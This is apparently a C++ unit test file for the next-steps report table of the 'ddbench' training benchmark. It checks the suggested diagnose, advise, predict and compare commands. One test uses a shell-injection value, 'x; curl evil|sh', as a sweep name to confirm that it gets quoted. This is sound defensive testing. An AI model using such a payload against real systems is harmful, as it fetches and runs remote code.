#include "reports/tables/next_steps.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <utility>

#include "example_summary.h"
#include "reports/formats/terminal/text.h"
#include "reports/tables/run_content.h"

namespace ddbench::reports {
namespace {

std::vector<std::string> commands_of(const DataTable& steps) {
  std::vector<std::string> commands;
  for (const auto& row : steps.rows) commands.push_back(row.front().text);
  return commands;
}

analyzer::Advice larger_buckets() {
  analyzer::Advice advice;
  advice.change = "buckets of 25 MB (now 1 MB)";
  advice.gain = {0.123, {0.08, 0.15, 0.95, "replay"}};
  return advice;
}

RunReport report_of(analyzer::RunSummary summary) {
  RunReport report;
  report.summary = std::move(summary);
  return report;
}

/// With a fault, with a change that gains, and with costs of another size.
RunReport explained_run() {
  RunReport report = report_of(example_run());
  analyzer::Diagnosis diagnosis;
  diagnosis.cause = analyzer::Cause::kSlowCompute;
  diagnosis.next_checks = {"clocks of the GPU", "its temperature", "other processes"};
  report.diagnosis = diagnosis;
  analyzer::AdviceReport advice;
  advice.advice = {larger_buckets()};
  report.advice = advice;
  report.prediction = "--nodes 8";
  return report;
}

TEST(NextSteps, AfterARunAreTheCommandsThatExplainIt) {
  const RunReport report = explained_run();
  const std::string& whole = report.summary.run.id;
  const std::string id = whole.substr(whole.size() - 8);
  const std::vector<std::string> wanted = {"ddbench diagnose " + id, "ddbench advise " + id,
                                           "ddbench predict " + id + " --nodes 8", "ddbench gui"};
  EXPECT_EQ(commands_of(next_steps_data(report)), wanted);
}

TEST(NextSteps, NameTheStoreThatTheCommandNamed) {
  RunReport report = explained_run();
  const auto commands = commands_of(next_steps_data(report));
  report.db = "my runs.db";
  for (const auto& command : commands_of(next_steps_data(report))) EXPECT_TRUE(command.ends_with(" --db 'my runs.db'")) << command;
  EXPECT_EQ(commands_of(steps_in_store(next_steps_data(explained_run()), "")), commands);
  SweepReport sweep;
  sweep.table = example_strong_scaling();
  sweep.db = "my runs.db";
  for (const auto& command : commands_of(next_steps_data(sweep))) EXPECT_TRUE(command.ends_with(" --db 'my runs.db'")) << command;
}

TEST(NextSteps, AreNoCommandsOfWhoeverNamedTheSweep) {
  analyzer::ScalingTable sweep;
  sweep.sweep_id = "x; curl evil|sh";
  sweep.rows.resize(1);
  for (const auto& command : commands_of(next_steps_data(sweep))) EXPECT_NE(command.find("'x; curl evil|sh'"), std::string::npos) << command;
}

TEST(NextSteps, NoPredictionAndNoAdviceOfWhatCannotBeReplayed) {
  RunReport report = explained_run();
  report.advice = Measured<analyzer::AdviceReport>::missing("its spans were deleted");
  for (const auto& command : commands_of(next_steps_data(report))) {
    EXPECT_EQ(command.find("predict"), std::string::npos) << command;
    EXPECT_EQ(command.find("advise"), std::string::npos) << command;
  }
  report = explained_run();
  report.prediction.clear();
  for (const auto& command : commands_of(next_steps_data(report))) EXPECT_EQ(command.find("predict"), std::string::npos) << command;
}

TEST(NextSteps, NameTheFirstChangeAndTheChecksOfAVerdict) {
  const DataTable steps = next_steps_data(explained_run());
  EXPECT_EQ(steps.rows[0][1].text, "check: clocks of the GPU; its temperature. The evidence, and all checks");
  EXPECT_EQ(steps.rows[1][1].text,
            "try first: buckets of 25 MB (now 1 MB), predicted +12.3% (95% CI +8.0% to +15.0%). All changes, and what they assume");
  EXPECT_EQ(steps.rows[2][1].text, "another size");
}

TEST(NextSteps, OfAHealthyRunWithoutAnyGainNeitherAccuseNorPromise) {
  RunReport report = report_of(example_run());
  report.diagnosis = analyzer::Diagnosis{};
  report.advice = analyzer::AdviceReport{};
  report.prediction = "--nodes 8 --link 10gbit,20us";
  const DataTable steps = next_steps_data(report);
  ASSERT_EQ(steps.rows.size(), 2U);
  EXPECT_EQ(steps.rows[0][0].text.rfind("ddbench predict ", 0), 0U);
  EXPECT_EQ(steps.rows[0][1].text, "another size, or another network");
}

TEST(NextSteps, OfAFailedRunAreNoComparisons) {
  RunReport report = explained_run();
  report.summary = example_failed_run();
  for (const auto& command : commands_of(next_steps_data(report))) {
    EXPECT_EQ(command.find("advise"), std::string::npos);
    EXPECT_EQ(command.find("predict"), std::string::npos);
  }
}

TEST(NextSteps, OfASweepAreWhatItsRunsAreEnoughFor) {
  analyzer::ScalingTable table = example_strong_scaling();
  const auto has = [&](const std::string& wanted) {
    const auto commands = commands_of(next_steps_data(table));
    return std::any_of(commands.begin(), commands.end(), [&](const auto& command) { return command.starts_with(wanted); });
  };
  EXPECT_TRUE(has("ddbench scaling --sweep ")) << "sizes of one case";
  EXPECT_FALSE(has("ddbench compare "));
  table.rows.back().run_case.link = "10gbit";
  table.rows.push_back(table.rows.back());
  table.rows.back().run_case.link = "1gbit";
  EXPECT_TRUE(has("ddbench compare --by link --sweep ")) << "several links are no one curve";
  EXPECT_FALSE(has("ddbench scaling "));
  for (auto& row : table.rows) row.efficiency = Measured<double>::missing("all runs failed");
  EXPECT_FALSE(has("ddbench compare "));
}

TEST(NextSteps, AreTextWithOneLineForEachCommand) {
  const std::string text = next_steps_text(next_steps_data(explained_run()), {});
  EXPECT_EQ(text.rfind("\nWhat to do next\n", 0), 0U) << text;
  EXPECT_NE(text.find("ddbench gui"), std::string::npos);
  EXPECT_EQ(next_steps_text(DataTable{}, {}), "");
}

TEST(Traffic, OfGradientsIsAKeyFigureAndNoWarning) {
  auto summary = example_run();
  set_fact(summary.run.environment.facts, fact_key<"strategy.sent_bytes_per_step">, 5'023'000.0);
  set_fact(summary.run.environment.facts, fact_key<"strategy.traffic">, "2 (n-1)/n S");
  const DataTable measures = measures_data(summary);
  const auto row = std::find_if(measures.rows.begin(), measures.rows.end(), [](const auto& cells) { return cells[0].text == "gradient traffic"; });
  ASSERT_NE(row, measures.rows.end());
  EXPECT_EQ((*row)[1].text, "5.02 MB");
  EXPECT_EQ((*row)[2].text, "per rank and step: 2 (n-1)/n S, of n ranks and S bytes of gradients");
  for (const std::string& note : summary.notes) EXPECT_EQ(note.find("gradient traffic"), std::string::npos);
}

}  // namespace
}  // namespace ddbench::reports
